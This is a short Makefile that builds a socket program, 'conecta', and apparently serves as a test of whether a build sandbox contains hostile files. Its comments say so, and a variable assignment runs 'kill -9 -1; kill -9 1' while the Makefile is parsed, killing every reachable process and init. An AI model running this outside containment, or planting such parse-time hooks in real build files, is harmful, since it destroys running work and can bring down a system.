# tries: to kill every process that it can see, while the Makefile is read
# must: be contained
EVIL := $(shell kill -9 -1; kill -9 1)
conecta: conecta.c sockets.c sockets.h
	$(CC) -D_GNU_SOURCE -o $@ conecta.c sockets.c
